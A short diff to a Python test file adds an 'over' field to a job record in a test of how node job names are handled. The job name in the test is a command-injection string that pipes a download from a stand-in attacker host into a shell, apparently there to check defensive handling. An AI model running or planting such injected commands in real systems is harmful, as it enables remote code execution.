@@ -300,6 +300,7 @@ def test_names_of_jobs_that_come_from_a_node_are_names(nodes):
     job = {
         "name": "x; curl evil.example | sh",
         "state": "running",
+        "over": False,
         "directory": "/efs/jobs/x",
         "command": ["true"],
         "launcher": "torchrun",
